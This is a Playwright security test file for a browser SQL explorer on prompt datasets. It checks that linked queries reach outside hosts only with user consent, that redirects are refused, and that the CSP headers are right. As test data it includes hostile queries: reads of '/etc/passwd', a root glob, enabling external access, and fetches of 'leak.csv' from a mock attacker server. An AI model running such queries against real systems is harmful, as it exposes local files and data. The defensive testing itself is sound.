import type { Page } from "@playwright/test";
import { startAttacker, type Attacker } from "./attacker";
import { expect, test } from "./fixtures";

let attacker: Attacker;
test.beforeAll(async () => {
  attacker = await startAttacker();
});
test.afterAll(() => attacker.close());
test.beforeEach(() => {
  attacker.requests.length = 0;
});

const link = (sql: string, ds = "ds=ultrafeedback&") => `/?${ds}panel=sql&sql=${encodeURIComponent(sql)}`;

/** Every host the page asked anything of, besides its own. */
function foreignHosts(page: Page, base: string): Set<string> {
  const own = new URL(base).host;
  const hosts = new Set<string>();
  page.on("request", (r) => {
    const host = new URL(r.url()).host;
    if (host !== own) hosts.add(host);
  });
  return hosts;
}

test("a link's query that reads another host sends nothing until the user says yes, then reads only there", async ({
  page,
  baseURL,
}) => {
  const hosts = foreignHosts(page, baseURL!);
  await page.goto(link(`SELECT * FROM read_csv('${attacker.origin}/leak.csv')`));
  const ask = page.getByTestId("sql-host");
  await expect(ask).toBeVisible();
  await expect(ask.getByTestId("sql-host-name")).toHaveText([attacker.host]);
  await expect(page.getByTestId("row-count")).toHaveText("60 of 60 prompts");
  // The dataset is open and the query has had every chance to run: nothing reached the other host.
  await page.waitForTimeout(1000);
  expect(attacker.requests).toEqual([]);
  expect([...hosts]).toEqual([]);
  await expect(page.getByTestId("sql-result")).toHaveCount(0);

  await ask.getByTestId("sql-host-read").click();
  await expect(page.getByTestId("sql-result")).toHaveAttribute("data-rows", "2");
  await expect(page.getByTestId("sql-result").getByTestId("record-row").first()).toContainText("someone");
  expect(attacker.requests.map((r) => [r.method, r.url])).toEqual([["GET", "/leak.csv"]]);
  expect([...hosts]).toEqual([attacker.host]);
});

test("without a dataset in the link, and with an https address, the question comes first too", async ({ page }) => {
  await page.goto(link(`FROM read_csv('https://data.example.invalid/x.csv')`, ""));
  await expect(page.getByTestId("sql-host-name")).toHaveText(["data.example.invalid"]);
  await page.getByTestId("sql-host-decline").click();
  await expect(page.getByTestId("sql-host")).toHaveCount(0);
  await expect(page.getByTestId("sql-result")).toHaveCount(0);
  await page.goto(link(`SELECT * FROM read_csv('${attacker.origin}/again.csv')`, ""));
  await expect(page.getByTestId("sql-host-name")).toHaveText([attacker.host]);
  await page.getByTestId("sql-host-decline").click();
  expect(attacker.requests).toEqual([]);
});

test("an address built by the query, a local path and a typed address: the engine reads none by itself", async ({
  page,
  baseURL,
}) => {
  const hosts = foreignHosts(page, baseURL!);
  await page.goto(
    link(
      `SELECT * FROM read_csv(concat('http://', '127.0.0.1:${attacker.origin.split(":").pop()}', '/', current_setting('threads')))`,
    ),
  );
  await expect(page.getByTestId("sql-error")).toContainText("the page’s database reads no file or address by itself");
  await expect(page.getByTestId("sql-error")).toHaveAttribute("data-refused", "true");
  const editor = page.getByTestId("sql-editor").locator(".cm-content");
  for (const sql of [
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM glob('/*')",
    "SET enable_external_access = true",
  ]) {
    await editor.click();
    await page.keyboard.press("ControlOrMeta+a");
    await page.keyboard.insertText(sql);
    await page.getByTestId("sql-run").click();
    await expect(page.getByTestId("sql-error")).toHaveAttribute("data-refused", "true");
  }
  // Typed, an address is asked about the same way before anything is fetched.
  await editor.click();
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.insertText(`SELECT count(*) AS n FROM read_csv('${attacker.origin}/typed.csv')`);
  await page.getByTestId("sql-run").click();
  await expect(page.getByTestId("sql-host-name")).toHaveText([attacker.host]);
  expect(attacker.requests).toEqual([]);
  await page.getByTestId("sql-host-read").click();
  await expect(page.getByTestId("sql-result").locator('[data-col="n"]')).toHaveText("2");
  expect(attacker.requests.map((r) => r.url)).toEqual(["/typed.csv"]);
  expect([...hosts]).toEqual([attacker.host]);
});

test("an agreed host that redirects elsewhere is not followed: the query says so and the other host hears nothing", async ({
  page,
}) => {
  const other = await startAttacker();
  try {
    attacker.redirects.set("/hop.csv", `${other.origin}/leak.csv`);
    await page.goto(link(`SELECT * FROM read_csv('${attacker.origin}/hop.csv')`));
    await expect(page.getByTestId("sql-host-name")).toHaveText([attacker.host]);
    await page.getByTestId("sql-host-read").click();
    await expect(page.getByTestId("sql-error")).toContainText("a redirect");
    await expect(page.getByTestId("sql-error")).toContainText(`${attacker.origin}/hop.csv`);
    expect(attacker.requests.map((r) => r.url)).toEqual(["/hop.csv"]);
    expect(other.requests).toEqual([]);
    await expect(page.getByTestId("sql-result")).toHaveCount(0);
  } finally {
    attacker.redirects.clear();
    await other.close();
  }
});

test("addresses written as text in a link's query are text: nothing is asked or fetched, and the query runs", async ({
  page,
  baseURL,
}) => {
  const hosts = foreignHosts(page, baseURL!);
  const sql =
    `SELECT count(*) AS n, '${attacker.origin}/a.csv' AS shown FROM ultrafeedback ` +
    `WHERE instruction NOT LIKE 'http://%' AND source <> '${attacker.origin}/b.csv'`;
  await page.goto(link(sql));
  await expect(page.getByTestId("sql-result").locator('[data-col="n"]')).toHaveText("60");
  await expect(page.getByTestId("sql-host")).toHaveCount(0);
  expect(attacker.requests).toEqual([]);
  expect([...hosts]).toEqual([]);
});

test("the engine's worker may fetch nothing but its own files; the page only from its origin", async ({ request }) => {
  const page = await request.get("/");
  const csp = page.headers()["content-security-policy"] ?? "";
  expect(csp).toContain("connect-src 'self';");
  const worker = await request.get("/duckdb/duckdb-browser-eh.worker.js");
  expect(worker.headers()["content-security-policy"]).toBe(
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'",
  );
});

test("the server's edges: TRACE is refused, and a prefetched page carries the same policy", async ({ request }) => {
  for (const path of ["/", "/samples/ultrachat/train_0.jsonl", "/_next/static/x.js", "/duckdb/duckdb-eh.wasm"]) {
    const answer = await request.fetch(path, { method: "TRACE" });
    expect([path, answer.status()]).toEqual([path, 405]);
    expect(answer.headers()["allow"]).toBe("GET, HEAD, POST");
  }
  const prefetch = await request.get("/", { headers: { "next-router-prefetch": "1", rsc: "1" } });
  expect(prefetch.headers()["content-security-policy"]).toContain("connect-src 'self';");
  expect(prefetch.headers()["referrer-policy"]).toBe("no-referrer");
});
